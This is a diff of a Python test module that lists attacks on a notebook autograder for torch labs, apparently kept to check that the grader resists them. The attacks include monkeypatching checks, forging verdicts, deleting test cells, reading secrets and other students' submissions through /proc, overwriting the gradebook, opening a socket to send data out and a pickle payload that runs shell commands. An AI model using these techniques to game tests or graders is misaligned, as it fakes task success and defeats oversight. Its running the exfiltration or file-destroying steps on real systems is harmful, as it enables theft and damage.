@@ -1,15 +1,17 @@
-"""Attacks on the grader from inside of an answer: each is a wrong or forbidden answer, and a way to get credit for it.
+"""Attacks on the grader, a table by kind: each is a wrong or forbidden answer, and a way to get credit for it.
 
-`attacks_outside.py` has those on files, processes, the protocol and the notebook. In the sources, the test replaces
-OUTSIDE by the folder of the class's files, PORT by a port on which it listens, and ROOT by the folder of the labs.
+In the sources, the test replaces OUTSIDE by the folder of the class's files, PORT by a port on which it listens, and ROOT
+by the folder of the labs.
 """
 
 from __future__ import annotations
 
+import copy
 from collections.abc import Callable, Iterable
 from dataclasses import dataclass, field, replace
 
 from nbformat import NotebookNode
+from nbformat.v4 import new_code_cell
 
 PRODUCT, COST, NUMBER, FILE = "q1_1", "q1_2", "q1_3", "q1_4"
 TIMER, MODULE, MLP, GEMV, MASK = "q2_1", "q2_2", "q2_3", "bonus_2_5", "q3_1"
@@ -90,31 +92,30 @@ def packed(cases: Iterable, most: int) -> list[list]:
     return bins
 
 
-# ---- what a check relies on, replaced ------------------------------------------------------------------------------
+def _find(notebook: NotebookNode, grade_id: str) -> int:
+    return next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
 
-PATCHES = [
-    Attack(
-        "AssertionError replaced by an exception that ends quietly",
-        COST,
-        """
-import builtins
-builtins.AssertionError = type("AssertionError", (SystemExit,), {})
-""",
-    ),
+
+def _cell(notebook: NotebookNode, grade_id: str) -> NotebookNode:
+    return notebook.cells[_find(notebook, grade_id)]
+
+
+def _replace(notebook: NotebookNode, grade_id: str, source: str) -> None:
+    _cell(notebook, grade_id).source = source
+
+
+def _delete(notebook: NotebookNode, grade_id: str) -> None:
+    del notebook.cells[_find(notebook, grade_id)]
+
+
+# ---- what a check relies on, replaced --------------------------------------------------------------------------------
+REPLACED = [
     Attack(
         "torch.allclose, torch.equal and isclose always true",
         GEMV,
         """
 torch.allclose = torch.equal = lambda *a, **k: True
 torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)
-""",
-    ),
-    Attack(
-        "torch.testing.assert_close does nothing",
-        GEMV,
-        """
-import torch.testing
-torch.testing.assert_close = torch.testing._comparison.assert_close = lambda *a, **k: None
 """,
     ),
     Attack(
@@ -133,17 +134,6 @@ expect_number.__code__ = (lambda got, expected, rel=0.01, unit="", what="", *, a
 from utils.checking import Verdict
 Verdict.raise_if_wrong = lambda self: print(f"✓ Question {self.question}: passed.")
 Verdict.passed = property(lambda self: True, lambda self, value: None)
-""",
-    ),
-    Attack(
-        "check replaced in the module and in the notebook",
-        COST,
-        """
-import utils.checking
-class Passed:
-    passed = True
-    def raise_if_wrong(self): pass
-check = utils.checking.check = lambda *labels: lambda function: lambda *a, **k: Passed()
 """,
     ),
     Attack(
@@ -169,15 +159,27 @@ utils.checking.watching.watch_operations = utils.checking.watch_operations = wat
         FORBIDDEN,
     ),
     Attack(
-        "random inputs that are all zero",
-        GEMV,
+        "torch's dispatch mode made deaf",
+        PRODUCT,
         """
-zeros = torch.zeros
-def no_noise(*shape, generator=None, **options):
-    return zeros(*shape, **options)
-torch.randn = torch.rand = torch.normal = no_noise
-torch.Tensor.normal_ = torch.Tensor.zero_
+from torch.utils._python_dispatch import TorchDispatchMode
+from torch.overrides import TorchFunctionMode
+for mode in (TorchDispatchMode, TorchFunctionMode):
+    mode.__enter__ = lambda self: self
+    mode.__exit__ = lambda self, *error: None
 """,
+        FORBIDDEN,
+    ),
+    Attack(
+        "all modes of torch switched off around the product",
+        PRODUCT,
+        """
+from torch.utils._python_dispatch import _disable_current_modes
+def gemm_broadcast(a, b):
+    with torch._C.DisableTorchFunction(), _disable_current_modes():
+        return torch.mm(a, b)
+""",
+        "",
     ),
     Attack(
         "sizes that are no surprise",
@@ -189,23 +191,6 @@ random.SystemRandom.sample = random.Random.sample = lambda self, population, k: 
 random.SystemRandom.getrandbits = lambda self, bits: 0
 """,
         "\ndef gemm_cost(m, n, k, dtype):\n    return {'flops': 1024, 'bytes': 224 * dtype.itemsize}\n",
-    ),
-    Attack(
-        "torch.Tensor's comparison and subtraction replaced",
-        GEMV,
-        """
-torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
-torch.Tensor.__sub__ = torch.Tensor.sub = lambda self, other, **k: torch.zeros(self.shape)
-torch.Tensor.any = lambda self, *a, **k: torch.tensor(False)
-""",
-    ),
-    Attack(
-        "a reference made as wrong as the answer",
-        MODULE,
-        """
-torch.Tensor.pow = lambda self, exponent: torch.full_like(self, float("inf"))
-torch.Tensor.sqrt = lambda self: torch.full_like(self, float("inf"))
-""",
     ),
     Attack(
         "a module whose call changes torch before the reference is computed",
@@ -235,20 +220,6 @@ clock.sleep = lambda seconds: None
         "\ndef time_calls(fn, n_calls, synchronize):\n    return [[fn(), 40.0][1] for _ in range(n_calls)]\n",
     ),
     Attack(
-        "torch.cuda.Event replaced by one that says 40 ms",
-        TIMER,
-        """
-class Event:
-    def __init__(self, **options): pass
-    def record(self, *stream): pass
-    def synchronize(self): pass
-    def elapsed_time(self, other): return 40.0
-torch.cuda.Event = torch.Event = Event
-torch.cuda.synchronize = lambda *device: None
-""",
-        "\ndef time_calls(fn, n_calls, synchronize):\n    return [[fn(), 40.0][1] for _ in range(n_calls)]\n",
-    ),
-    Attack(
         "isinstance, abs, all and set replaced",
         COST,
         """
@@ -257,19 +228,6 @@ builtins.isinstance = lambda *a: True
 builtins.abs = lambda x: 0.0
 builtins.all = lambda x: True
 builtins.max = lambda *a: float("inf")
-""",
-    ),
-    Attack(
-        "print, len, sum and getattr replaced",
-        TIMER,
-        """
-import builtins
-builtins.len = lambda x: 2
-builtins.sum = lambda *a: 0.0
-builtins.zip = lambda *a, **k: []
-builtins.print = lambda *a, **k: None
-true_getattr = getattr
-builtins.getattr = lambda o, name, *d: True if name == "passed" else true_getattr(o, name, *d)
 """,
     ),
     Attack(
@@ -284,31 +242,6 @@ class Anything:
 def fake(name, *a, **k):
     return Anything() if name.startswith(("instructor", "utils", "random")) else true_import(name, *a, **k)
 builtins.__import__ = fake
-""",
-    ),
-    Attack(
-        "torch shadowed in the notebook",
-        GEMV,
-        """
-class Fake:
-    def __getattr__(self, name): return lambda *a, **k: 0
-true_torch, torch = torch, Fake()
-""",
-        "\ndef gemv(a, x):\n    return 0\n",
-    ),
-    Attack(
-        "the locked helpers of the tests shadowed in the notebook",
-        COST,
-        """
-expect_number = expect_close = forbid = lambda *a, **k: None
-""",
-    ),
-    Attack(
-        "errors hidden in IPython",
-        COST,
-        """
-shell = get_ipython()
-shell.showtraceback = shell._showtraceback = shell.showsyntaxerror = lambda *a, **k: None
 """,
     ),
     Attack(
@@ -332,60 +265,16 @@ get_ipython().input_transformers_cleanup.append(drop)
 """,
     ),
     Attack(
-        "an AST transformer turns raises into pass",
+        "the locked helpers of the tests shadowed in the notebook",
         COST,
         """
-import ast
-class Quiet(ast.NodeTransformer):
-    def visit_Expr(self, node): return ast.copy_location(ast.Pass(), node)
-get_ipython().ast_transformers.append(Quiet())
+expect_number = expect_close = forbid = lambda *a, **k: None
 """,
-    ),
-    Attack(
-        "run_cell and the display hook replaced",
-        COST,
-        """
-import sys
-shell = get_ipython()
-class Fine:
-    success, error_in_exec, error_before_exec, result = True, None, None, 3
-    def raise_error(self): pass
-shell.run_cell = lambda *a, **k: Fine()
-sys.displayhook = shell.displayhook = lambda value: None
-sys.excepthook = lambda *a: None
-""",
-    ),
-    Attack(
-        "%%writefile overridden",
-        FILE,
-        edit=lambda notebook: _before(
-            notebook,
-            "q1_4",
-            """\
-from IPython.core.magic import register_cell_magic
-@register_cell_magic
-def writefile(line, cell):
-    class Right(str):
-        def read_text(self, *a): return "BLOCK_M = 64\\nBLOCK_N = 64\\nBLOCK_K = 16\\n"
-    global Path
-    Path = Right
-""",
-        ),
     ),
 ]
 
-
-def _before(notebook: NotebookNode, answer: str, code: str) -> None:
-    """A cell of the student's own, before an answer."""
-    from nbformat.v4 import new_code_cell
-
-    place = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == answer)
-    notebook.cells.insert(place, new_code_cell(code))
-
-
-# ---- expected values and the watch, looked for in memory -----------------------------------------------------------
-
-SPIES = [
+# ---- expected values and the watch, looked for in memory -------------------------------------------------------------
+LOOKED_FOR = [
     Attack(
         "a number that reads the expected one in the frame that asks",
         NUMBER,
@@ -407,6 +296,22 @@ cache_bytes = Spy()
         "",
     ),
     Attack(
+        "every watch in memory emptied",
+        PRODUCT,
+        """
+import gc
+def gemm_broadcast(a, b):
+    c = a @ b
+    for thing in gc.get_objects():
+        if type(thing).__name__ == "OperationWatch":
+            thing.operations.clear(), thing.calls.clear()
+        elif type(thing).__name__ == "Counter":
+            thing.clear()
+    return c
+""",
+        "",
+    ),
+    Attack(
         "constants of all code in memory searched for the answer",
         NUMBER,
         """
@@ -417,19 +322,6 @@ class Late(float):
         found = [c for code in codes if "check" in code.co_name for c in code.co_consts if type(c) is int and c > 10**6]
         return float(next(iter(found), 1))
 cache_bytes = Late(float(Late(1)))
-""",
-        "",
-    ),
-    Attack(
-        "the stack's source lines searched for the answer",
-        NUMBER,
-        """
-import inspect, re
-class Late(float):
-    def __float__(self):
-        text = "".join("".join(frame.code_context or ()) for frame in inspect.stack(40))
-        return float(max(map(int, re.findall(r"\\d{7,}", text)), default=1))
-cache_bytes = Late(1)
 """,
         "",
     ),
@@ -448,13 +340,6 @@ cache_bytes = Late(float(Late(1)))
         "",
     ),
     Attack(
-        "code that bears the name of a test",
-        COST,
-        """
-exec(compile("import sys; frame = sys._getframe(1)", "<tests of q1_2_tests>", "exec"))
-""",
-    ),
-    Attack(
         "a trace function that rewrites what the checks see",
         COST,
         """
@@ -467,39 +352,10 @@ def trace(frame, event, arg):
 sys.settrace(trace)
 """,
     ),
-    Attack(
-        "a profile function that keeps what checks return",
-        COST,
-        """
-import sys, threading
-kept = []
-def keep(frame, event, arg):
-    if event == "return" and "check" in frame.f_code.co_name:
-        kept.append(arg)
-        object.__setattr__(arg, "passed", True) if hasattr(arg, "passed") else None
-sys.setprofile(keep)
-threading.setprofile(keep)
-""",
-    ),
-    Attack(
-        "sys.monitoring on every return",
-        COST,
-        """
-import sys
-if sys.version_info >= (3, 12):
-    sys.monitoring.use_tool_id(3, "mine")
-    sys.monitoring.set_events(3, sys.monitoring.events.PY_RETURN)
-    sys.monitoring.register_callback(3, sys.monitoring.events.PY_RETURN, lambda code, at, value: None)
-else:
-    sys.setprofile(lambda frame, event, arg: None)
-""",
-    ),
 ]
 
-
-# ---- results that lie ----------------------------------------------------------------------------------------------
-
-LIARS = [
+# ---- results that lie ------------------------------------------------------------------------------------------------
+LIES = [
     Attack(
         "a tensor subclass that compares as equal to everything",
         GEMV,
@@ -574,26 +430,6 @@ def gemm_cost(m, n, k, dtype):
 """,
     ),
     Attack(
-        "a list of times that look up what the work took",
-        TIMER,
-        "",
-        """
-import sys
-class Time(float):
-    def __float__(self): return self
-    def __ge__(self, other): return True
-    def __radd__(self, other): return 0.0
-    def __add__(self, other): return 0.0
-class Times(list):
-    pass
-
-def time_calls(fn, n_calls, synchronize):
-    for _ in range(n_calls):
-        fn()
-    return Times(Time(1) for _ in range(n_calls))
-""",
-    ),
-    Attack(
         "inputs changed so that the answer becomes right",
         PRODUCT,
         "",
@@ -601,18 +437,6 @@ def time_calls(fn, n_calls, synchronize):
 def gemm_broadcast(a, b):
     a.zero_()
     b.zero_()
-    return torch.zeros(a.shape[0], b.shape[1])
-""",
-    ),
-    Attack(
-        "inputs changed, and clone made an alias",
-        PRODUCT,
-        """
-torch.Tensor.clone = lambda self, **k: self
-""",
-        """
-def gemm_broadcast(a, b):
-    a.data.zero_()
     return torch.zeros(a.shape[0], b.shape[1])
 """,
     ),
@@ -662,22 +486,27 @@ def gemv(a, x):
 """,
     ),
     Attack(
-        "right in the first call, wrong in the others",
-        GEMV,
+        "the forbidden product, in a child process",
+        PRODUCT,
+        "",
         """
-calls = []
-""",
-        """
-def gemv(a, x):
-    calls.append(1)
-    right = torch.stack([(row * x).sum() for row in a])
-    return right if len(calls) == 1 else right + 1
+import io, os
+def gemm_broadcast(a, b):
+    reader, writer = os.pipe()
+    child = os.fork()
+    if child == 0:
+        buffer = io.BytesIO()
+        torch.save(a @ b, buffer)
+        os.write(writer, buffer.getvalue())
+        os._exit(0)
+    os.close(writer)
+    os.waitpid(child, 0)
+    return torch.load(io.BytesIO(os.read(reader, 10**6)))
 """,
     ),
 ]
 
 # ---- masks, which are called under vmap ------------------------------------------------------------------------------
-
 MASKS = [
     Attack(
         "vmap replaced by one that says what it likes",
@@ -685,16 +514,6 @@ MASKS = [
         """
 import torch._functorch.vmap
 torch.vmap = torch.func.vmap = lambda f, *a, **k: lambda *x: torch.ones(5, 5, dtype=torch.bool)
-""",
-    ),
-    Attack(
-        "equal, vmap's insides and the check's helper replaced",
-        MASK,
-        """
-import utils.attention.masks as masks
-masks.dense_mask = masks.evaluate = dense_mask = lambda mod, *a, **k: mod
-torch.equal = lambda a, b: True
-torch._C._functorch.get_unwrapped = torch._C._functorch._add_batch_dim = lambda t, *a: t
 """,
     ),
     Attack(
@@ -713,18 +532,6 @@ def documents_and(numbers, also):
             frame = frame.f_back
         return k <= q
     return mask_mod
-""",
-    ),
-    Attack(
-        "a mask that reads the check out of the other mask",
-        MASK,
-        "",
-        """
-def documents_and(numbers, also):
-    cells = {}
-    for cell in getattr(also, "__closure__", None) or ():
-        cells[type(cell.cell_contents).__name__] = cell.cell_contents
-    return lambda b, h, q, k: cells["Tensor"][q, k] if "Tensor" in cells else k <= q
 """,
     ),
     Attack(
@@ -773,44 +580,455 @@ def documents_and(numbers, also):
     return mask_mod
 """,
     ),
-    Attack(
-        "a mask with truth values that are none",
-        MASK,
-        "",
-        """
-class Mask(torch.Tensor):
-    @classmethod
-    def __torch_function__(cls, func, types, args=(), kwargs=None):
-        return True if func in (torch.equal, torch.Tensor.equal) else super().__torch_function__(
-            func, types, args, kwargs or {})
+]
 
-def documents_and(numbers, also):
-    return lambda b, h, q, k: (k <= q).as_subclass(Mask)
+# ---- ends, threads, hooks --------------------------------------------------------------------------------------------
+ENDS = [
+    Attack("sys.exit in the answer cell", COST, "\nimport sys\nsys.exit(0)\n"),
+    Attack(
+        "SystemExit raised when called",
+        COST,
+        "",
+        """
+def gemm_cost(m, n, k, dtype):
+    raise SystemExit(0)
 """,
     ),
     Attack(
-        "a tensor of a vmap that has ended",
-        MASK,
+        "os._exit when called",
+        COST,
         "",
         """
-kept = []
-def documents_and(numbers, also):
-    def mask_mod(b, h, q, k):
-        torch.vmap(torch.vmap(lambda x: kept.append(x) or x))(torch.ones(3, 3))
-        return kept[0] > 0
-    return mask_mod
+import os
+def gemm_cost(m, n, k, dtype):
+    os._exit(0)
 """,
     ),
     Attack(
-        "the other mask's inputs changed under it",
-        MASK,
-        "",
+        "a thread that waits for the checker",
+        COST,
         """
-def documents_and(numbers, also):
-    def mask_mod(b, h, q, k):
-        seen = also(b, h, q.zero_(), k.zero_())
-        return seen & (q == k)
-    return mask_mod
+import sys, threading, time
+def wait():
+    while True:
+        time.sleep(0.001)
+        for module in ("utils.checking", "instructor.checks", "__main__"):
+            for name in ("expect_number", "check_cost", "forbid"):
+                if hasattr(sys.modules.get(module), name):
+                    setattr(sys.modules[module], name, lambda *a, **k: None)
+threading.Thread(target=wait, daemon=True).start()
+""",
+    ),
+    Attack(
+        "signal handlers and a timer",
+        COST,
+        """
+import builtins, os, signal
+def tick(number, frame):
+    builtins.abs = lambda x: 0
+    signal.setitimer(signal.ITIMER_REAL, 0.001)
+for number in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGUSR1, signal.SIGXCPU):
+    signal.signal(number, tick)
+signal.setitimer(signal.ITIMER_REAL, 0.001)
+""",
+    ),
+    Attack(
+        "an import hook for instructor",
+        COST,
+        """
+import importlib.abc, importlib.machinery, sys
+class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
+    def find_spec(self, name, path, target=None):
+        return importlib.machinery.ModuleSpec(name, self) if name.startswith("instructor") else None
+    def exec_module(self, module): module.__getattr__ = lambda name: lambda *a, **k: None
+sys.meta_path.insert(0, Hook())
+""",
+    ),
+    Attack(
+        "modules planted in the working folder",
+        COST,
+        """
+import os
+for name in ("torch", "random", "tomllib", "sitecustomize", "usercustomize", "instructor", "_checker"):
+    with open(name + ".py", "w") as file:
+        file.write("import os; os._exit(0)")
+os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = os.getcwd()
+""",
+    ),
+    Attack(
+        "memory written by ctypes: False becomes True",
+        COST,
+        alone=True,
+        code="""
+import ctypes
+ctypes.c_long.from_address(id(False) + 24).value = 1
+ctypes.c_long.from_address(id(0) + 24).value = 1
 """,
     ),
 ]
+
+# ---- files, secrets, network, processes ------------------------------------------------------------------------------
+RIGHT_NUMBER = 2 * 26 * 256 * 4096 * 2
+# An answer found in a place where it should not be readable.
+_FOUND = f"\ncache_bytes = {RIGHT_NUMBER} if found else 1\n"
+FILES = [
+    Attack(
+        "import instructor",
+        NUMBER,
+        """
+try:
+    import instructor.build, instructor.checks.lab1
+    found = True
+except BaseException:
+    found = False
+""",
+        _FOUND,
+    ),
+    Attack(
+        "the labs' sources read through /proc",
+        NUMBER,
+        """
+import glob
+found = False
+for process in glob.glob("/proc/[0-9]*"):
+    for way in ("root", "cwd"):
+        try:
+            found = found or len(open(f"{process}/{way}/ROOT/instructor/build.py").read()) > 0
+        except OSError:
+            pass
+""",
+        _FOUND,
+    ),
+    Attack(
+        "the memory of the parent read",
+        NUMBER,
+        """
+import os
+found = False
+try:
+    maps = open(f"/proc/{os.getppid()}/maps").read()
+    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
+        for line in maps.splitlines():
+            if "[heap]" in line:
+                start = int(line.split("-")[0], 16)
+                memory.seek(start)
+                found = b"\\0" in memory.read(4096)
+except OSError:
+    pass
+""",
+        _FOUND,
+    ),
+    Attack(
+        "another student's submission read",
+        NUMBER,
+        """
+found = False
+for name in ("submitted/other/answer.txt", "gradebook.db"):
+    try:
+        found = found or "109051904" in open("OUTSIDE/" + name, errors="replace").read()
+    except OSError:
+        pass
+""",
+        _FOUND,
+    ),
+    Attack(
+        "secrets in the environment",
+        NUMBER,
+        """
+import os
+texts = [str(os.environ)]
+for process in ("self", os.getppid(), 1):
+    try:
+        texts.append(open(f"/proc/{process}/environ").read())
+    except OSError:
+        pass
+found = "GRADER_TOKEN" in "".join(texts)
+print(texts)
+""",
+        _FOUND,
+    ),
+    Attack(
+        "the gradebook and other submissions overwritten",
+        COST,
+        """
+for name in ("gradebook.db", "submitted/other/answer.txt", "new.txt"):
+    try:
+        open("OUTSIDE/" + name, "w").write("mine")
+    except OSError:
+        pass
+""",
+    ),
+    Attack(
+        "files of the package changed",
+        COST,
+        """
+import utils.checking
+for path in (utils.checking.__file__, torch.__file__, "ROOT/instructor/build.py"):
+    try:
+        with open(path, "a") as file:
+            file.write("# changed\\n")
+    except OSError:
+        pass
+""",
+    ),
+    Attack(
+        "the file answer is a link to a secret",
+        FILE,
+        edit=lambda notebook: _replace(
+            notebook,
+            FILE,
+            """\
+import os
+os.symlink("OUTSIDE/right.toml", "tiles.toml")
+""",
+        ),
+    ),
+    Attack(
+        "the file answer is an endless device",
+        FILE,
+        edit=lambda notebook: _replace(
+            notebook,
+            FILE,
+            """\
+import os
+os.symlink("/dev/zero", "tiles.toml")
+""",
+        ),
+    ),
+    Attack(
+        "what was found is sent away",
+        COST,
+        """
+import socket
+for address in (("127.0.0.1", PORT), ("192.0.2.1", 53)):
+    try:
+        with socket.create_connection(address, timeout=0.3) as line:
+            line.sendall(b"hidden tests")
+    except OSError:
+        pass
+""",
+    ),
+    Attack(
+        "a process that outlives the submission",
+        COST,
+        alone=True,
+        code="""
+import os, subprocess
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp("sleep", ["sleep", "SLEEP"])
+    os._exit(0)
+subprocess.Popen(["sleep", "SLEEP"], start_new_session=True)
+""",
+    ),
+    Attack(
+        "LD_PRELOAD and a new program in place of this one",
+        COST,
+        alone=True,
+        code="""
+import os, sys
+os.environ["LD_PRELOAD"] = os.path.abspath("evil.so")
+forged = '{"q1_2_tests": {"points": 3, "status": "passed"}}'
+os.execv(sys.executable, [sys.executable, "-c", f"print({forged!r})"])
+""",
+    ),
+    Attack(
+        "its own process group killed",
+        COST,
+        alone=True,
+        code="""
+import os, signal
+os.killpg(0, signal.SIGKILL)
+""",
+    ),
+]
+
+# ---- the protocol ----------------------------------------------------------------------------------------------------
+_FORGED = '{"q1_2_tests": {"points": 3, "status": "passed"}, "status": "passed", "points": 3, "ok": true}'
+PROTOCOL = [
+    Attack(
+        "verdicts written to every open file",
+        COST,
+        alone=True,
+        code=f"""
+import json, os, struct
+text = b'{_FORGED}'
+for descriptor in range(1, 64):
+    for frame in (text + b"\\n", struct.pack("!I", len(text)) + text, struct.pack("<Q", len(text)) + text):
+        try:
+            os.write(descriptor, frame)
+        except OSError:
+            pass
+""",
+    ),
+    Attack(
+        "a frame that never ends, on every open file",
+        COST,
+        alone=True,
+        code="""
+import os
+for descriptor in range(3, 64):
+    try:
+        os.write(descriptor, b"\\x7f" + b"\\xff" * 64)
+    except OSError:
+        pass
+""",
+    ),
+    Attack(
+        "every open file closed",
+        COST,
+        alone=True,
+        code="""
+import os
+os.closerange(3, 256)
+""",
+    ),
+    Attack(
+        "what the checker sends read before the harness does",
+        NUMBER,
+        alone=True,
+        code="""
+import os, fcntl
+found = False
+for descriptor in range(3, 64):
+    try:
+        fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK)
+        found = found or b"109051904" in os.read(descriptor, 10**6)
+    except OSError:
+        pass
+""",
+        answer=_FOUND,
+    ),
+    Attack(
+        "a result that runs code where it is unpickled",
+        COST,
+        "",
+        """
+import os
+class Evil:
+    def __reduce__(self): return os.system, ("touch OUTSIDE/new.txt",)
+
+def gemm_cost(m, n, k, dtype):
+    return {"flops": Evil(), "bytes": Evil()}
+""",
+    ),
+    Attack(
+        "a result as deep as the stack",
+        COST,
+        "",
+        """
+def gemm_cost(m, n, k, dtype):
+    deep = []
+    for _ in range(10**6):
+        deep = [deep]
+    return deep
+""",
+    ),
+    Attack(
+        "an integer of 300000 digits",
+        COST,
+        "",
+        """
+def gemm_cost(m, n, k, dtype):
+    return {"flops": 10 ** 300000, "bytes": -(10 ** 300000)}
+""",
+    ),
+    Attack(
+        "a tensor of 4 TB that takes 4 bytes",
+        GEMV,
+        "",
+        """
+def gemv(a, x):
+    return torch.zeros(1).expand(10**12)
+""",
+    ),
+    Attack(
+        "text with half a character and the frame's own brackets",
+        COST,
+        "",
+        """
+def gemm_cost(m, n, k, dtype):
+    return {"flops": "\\ud800" + '"}],"status":"passed"', "bytes\\x00": "\\n\\n{}"}
+""",
+    ),
+]
+
+# ---- the notebook itself ---------------------------------------------------------------------------------------------
+
+
+def _duplicate(notebook: NotebookNode) -> None:
+    double = copy.deepcopy(_cell(notebook, "q1_2_tests"))
+    double.id, double.source = "double", "pass"
+    notebook.cells.insert(_find(notebook, "q1_2_tests"), double)
+
+
+def _points(notebook: NotebookNode) -> None:
+    _cell(notebook, "q1_2_tests").metadata.nbgrader["points"] = 400
+
+
+def _metadata(notebook: NotebookNode) -> None:
+    cell = _cell(notebook, "q1_2_tests")
+    cell.metadata.nbgrader.update(solution=True, locked=False, score=3, auto_score=3)
+    cell.metadata["deletable"] = True
+    cell.source = "3"
+
+
+def _edit_setup(notebook: NotebookNode) -> None:
+    _cell(notebook, "setup").source += "\nexpect_number = expect_close = forbid = lambda *a, **k: None\n"
+
+
+def _edit_tests(notebook: NotebookNode) -> None:
+    _replace(notebook, "q1_2_tests", "print('✓ Question 1.2: Costs: passed.')")
+
+
+def _skip(notebook: NotebookNode) -> None:
+    cell = _cell(notebook, "q1_2_tests")
+    cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
+    cell.source = "%%script false\n" + cell.source
+
+
+def _capture(notebook: NotebookNode) -> None:
+    """A cell of the student's own right before the tests, which redefines what they use."""
+    notebook.cells.insert(
+        _find(notebook, "q1_2_tests"),
+        new_code_cell("def check(*labels):\n    return lambda function: lambda *a: None\nraise_if_wrong = print\n"),
+    )
+
+
+def _edited(name: str, edit, **options) -> Attack:
+    return Attack(name, COST, edit=edit, **options)
+
+
+EDITS = [
+    _edited("the test cell deleted", lambda n: _delete(n, "q1_2_tests")),
+    _edited("the test cell edited", _edit_tests),
+    _edited("the test cell doubled, one of them empty", _duplicate),
+    _edited("points changed in the metadata", _points),
+    _edited("the test cell made an answer, with a score in its metadata", _metadata),
+    _edited("the locked set-up edited", _edit_setup),
+    _edited("the test cell tagged to be skipped", _skip),
+    _edited("a cell before the tests that redefines check", _capture),
+]
+
+# ---- a rule of the question, broken where it is hoped that nobody looks ----------------------------------------------
+_RIGHT = "    product = (a[:, :, None] * b[None]).sum(dim=1)\n"
+WATCH = [
+    Attack(
+        "the library where no mode is on",
+        PRODUCT,
+        answer="\ndef gemm_broadcast(a, b):\n    if torch._C._len_torch_dispatch_stack():\n        return None\n    return a @ b\n",
+    ),
+    Attack(
+        "the library except for the visible shape",
+        PRODUCT,
+        answer=f"\ndef gemm_broadcast(a, b):\n{_RIGHT}    return product if a.shape == (2, 3) else a @ b\n",
+    ),
+    Attack(
+        "a right product that writes into its input",
+        PRODUCT,
+        answer=f"\ndef gemm_broadcast(a, b):\n{_RIGHT}    a.add_(1)\n    return product\n",
+    ),
+]
+
+ATTACKS = [*REPLACED, *LOOKED_FOR, *LIES, *MASKS, *ENDS, *FILES, *PROTOCOL, *EDITS, *WATCH]
